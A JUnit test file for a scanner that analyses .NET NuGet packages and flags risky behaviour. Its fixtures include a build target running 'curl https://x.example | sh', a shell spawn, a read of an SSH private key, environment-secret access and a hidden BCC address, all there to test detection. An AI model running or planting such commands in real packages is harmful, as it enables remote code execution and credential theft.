package dev.assay.scanners.clr;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.scanners.artifact.PackageTree;
import dev.assay.scanners.coordinates.Purl;
import dev.assay.scanners.finding.FindingKind;
import dev.assay.scanners.profile.CodeAnalysis;
import dev.assay.scanners.profile.Fact;

import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;

final class DotnetAnalyserTest {

    private static final String NUSPEC =
            """
            <package><metadata><id>Sample.Server</id><version>1.0.0</version>
            <license type="expression">MIT</license><readme>README.md</readme>
            <packageTypes><packageType name="McpServer" /></packageTypes></metadata></package>
            """;

    private static CodeAnalysis analyse(Map<String, byte[]> files) {
        return DotnetAnalyser.analyse(
                new PackageTree(
                        Purl.parse("nuget:sample.server@1.0.0"),
                        null,
                        new TreeMap<>(files),
                        List.of()));
    }

    private static CodeAnalysis analyse(AssemblyWriter assembly) {
        return analyse(
                Map.of("Sample.Server.nuspec", text(NUSPEC), "lib/net8.0/a.dll", assembly.bytes()));
    }

    private static byte[] text(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static List<String> of(FindingKind kind, CodeAnalysis code) {
        return code.facts().stream().filter(each -> each.kind() == kind).map(Fact::value).toList();
    }

    @Test
    void tellsWhatMethodsCallWithTheTextsThatStandBeforeTheCall() {
        var code =
                analyse(
                        new AssemblyWriter()
                                .method("Acme.Mail", "Run")
                                .text("/bin/sh")
                                .text("-c id")
                                .call("System.Diagnostics.Process::Start")
                                .method("Acme.Mail", "Key")
                                .text("API_KEY")
                                .call("System.Environment::GetEnvironmentVariable")
                                .call("System.Reflection.Assembly::Load")
                                .method("Acme.Mail", "Keep")
                                .text("/home/me/.ssh/id_rsa")
                                .call("System.IO.File::ReadAllText")
                                .method("Acme.Mail", "All")
                                .call("System.Environment::GetEnvironmentVariables"));

        assertThat(of(FindingKind.PROCESS_SPAWN, code)).containsExactly("Process.Start /bin/sh");
        assertThat(of(FindingKind.ENV_ACCESS, code)).containsExactly("*", "API_KEY");
        assertThat(of(FindingKind.DYNAMIC_CODE, code)).containsExactly("Assembly.Load");
        assertThat(of(FindingKind.FS_ACCESS, code))
                .containsExactly("read secrets File.ReadAllText");
        assertThat(code.facts())
                .filteredOn(each -> each.kind() == FindingKind.PROCESS_SPAWN)
                .extracting(each -> each.at().function())
                .containsExactly("Acme.Mail.Run");
    }

    @Test
    void tellsAHostThatIsContactedFromOneThatIsOnlyWritten() {
        var code =
                analyse(
                        new AssemblyWriter()
                                .method("Acme.Api", "Send")
                                .text("https://api.acme.example/v1")
                                .call("System.Net.Http.HttpClient::PostAsync")
                                .method("Acme.Api", "Help")
                                .text("see https://docs.acme.example/help")
                                .call("System.Console::WriteLine"));

        assertThat(code.facts())
                .filteredOn(each -> each.kind() == FindingKind.OUTBOUND_DOMAIN)
                .extracting(each -> each.value() + " " + each.detail().get("contacted"))
                .containsExactlyInAnyOrder("api.acme.example true", "docs.acme.example false");
        assertThat(of(FindingKind.NETWORK_CALL, code))
                .containsExactly("HttpClient.PostAsync api.acme.example");
    }

    @Test
    void tellsAnAddressThatIsAlwaysCopied() {
        var code =
                analyse(
                        new AssemblyWriter()
                                .method("Acme.Mail", "Send")
                                .call("System.Net.Mail.MailMessage::get_Bcc")
                                .text("phan@giftshop.club")
                                .call("System.Net.Mail.MailAddressCollection::Add"));

        assertThat(of(FindingKind.CONSTANT_RECIPIENT, code)).containsExactly("phan@giftshop.club");
    }

    @Test
    void tellsToolsAndFunctionsOfOtherLibraries() {
        var code =
                analyse(
                        new AssemblyWriter()
                                .method("Acme.Tools", "GetForecastAsync")
                                .attribute(
                                        "ModelContextProtocol.Server.McpServerToolAttribute",
                                        "Title",
                                        "Forecast",
                                        "Destructive",
                                        false)
                                .attribute(
                                        "System.ComponentModel.DescriptionAttribute",
                                        "Says what the weather will be.")
                                .method("Acme.Tools", "Named")
                                .attribute(
                                        "ModelContextProtocol.Server.McpServerToolAttribute",
                                        "Name",
                                        "other",
                                        "ReadOnly",
                                        true)
                                .method("Acme.Native", "system")
                                .imported("libc"));

        assertThat(of(FindingKind.TOOL_ADDED, code)).containsExactly("get_forecast", "other");
        var tool =
                code.facts().stream()
                        .filter(each -> each.value().equals("get_forecast"))
                        .findFirst()
                        .orElseThrow();
        assertThat(tool.detail())
                .containsEntry("description", "Says what the weather will be.")
                .containsEntry("title", "Forecast")
                .containsEntry("annotations", Map.of("destructiveHint", false));
        assertThat(of(FindingKind.NATIVE_BINARY, code)).containsExactly("libc");
    }

    @Test
    void neverCountsAnAssemblyAsReadWhole() {
        var plain = new AssemblyWriter().method("A.B", "C").bytes();
        var code = analyse(Map.of("a.dll", plain));
        assertThat(code.codeBytes()).isEqualTo(plain.length);
        assertThat(code.parsedCodeBytes()).isZero();
        assertThat(reasons(code)).contains("what flows where is not followed");
        assertThat(DotnetAnalyser.isPlainAssembly(plain)).isTrue();

        var ready = new AssemblyWriter().method("A.B", "C").readyToRun().bytes();
        assertThat(reasons(analyse(Map.of("a.dll", ready)))).contains("ReadyToRun");
        assertThat(DotnetAnalyser.isPlainAssembly(ready)).isFalse();
    }

    private static String reasons(CodeAnalysis code) {
        return code.unparsed().toString();
    }

    @Test
    void namesWhatIsDamagedWhateverItIs() {
        var sound =
                new AssemblyWriter()
                        .method("Acme.Mail", "Run")
                        .text("/bin/sh")
                        .call("System.Diagnostics.Process::Start")
                        .attribute(
                                "ModelContextProtocol.Server.McpServerToolAttribute", "Name", "n")
                        .bytes();
        var random = new Random(7);
        for (var i = 0; i < 5_000; i++) {
            var bytes = sound.clone();
            for (var flips = 0; flips < 1 + i % 4; flips++) {
                bytes[random.nextInt(bytes.length)] = (byte) random.nextInt();
            }
            var code = analyse(Map.of("a.dll", bytes));
            assertThat(code.parsedCodeBytes()).isZero();
        }
        for (var length = 0; length < sound.length; length += 3) {
            analyse(Map.of("a.dll", Arrays.copyOf(sound, length)));
        }
    }

    @Test
    void tellsWhatBuildsRunAndWhatAPackageDeclares() {
        var code =
                analyse(
                        Map.of(
                                "Sample.Server.nuspec",
                                text(NUSPEC),
                                "README.md",
                                text("<!-- mcp-name: io.example/other -->"),
                                ".mcp/server.json",
                                text(
                                        """
                                        {"name": "io.example/server", "packages": [
                                          {"environmentVariables": [
                                            {"name": "KEY", "isSecret": true}]}]}
                                        """),
                                "build/Sample.Server.targets",
                                text(
                                        """
                                        <Project><Target Name="T" AfterTargets="Build">
                                          <Exec Command="curl https://x.example | sh" /></Target>
                                          <UsingTask TaskName="Run" TaskFactory="RoslynCodeTaskFactory"
                                            AssemblyFile="t.dll" /></Project>
                                        """),
                                "build/Sample.Server.props",
                                text("<Project><PropertyGroup><A>1</A></PropertyGroup></Project>"),
                                "tools/install.ps1",
                                text("Write-Host"),
                                "tools/net8.0/any/DotnetToolSettings.xml",
                                text(
                                        """
                                        <DotNetCliTool Version="1"><Commands><Command Name="s"
                                          EntryPoint="s.dll" Runner="dotnet" /></Commands></DotNetCliTool>
                                        """)));

        assertThat(of(FindingKind.INSTALL_HOOK, code))
                .containsExactly(
                        "build/Sample.Server.targets: Exec curl https://x.example | sh; UsingTask"
                                + " Run written in it (RoslynCodeTaskFactory)",
                        "tools/install.ps1: PowerShell install.ps1");
        assertThat(of(FindingKind.ENTRY_POINT, code))
                .containsExactlyInAnyOrder(
                        "environment.KEY",
                        "mcpName",
                        "package types",
                        "build/Sample.Server.props",
                        "command s");
        assertThat(of(FindingKind.SOURCE_MISMATCH, code)).containsExactly("mcp-name");
        assertThat(of(FindingKind.LICENCE, code)).containsExactly("MIT");
    }
}
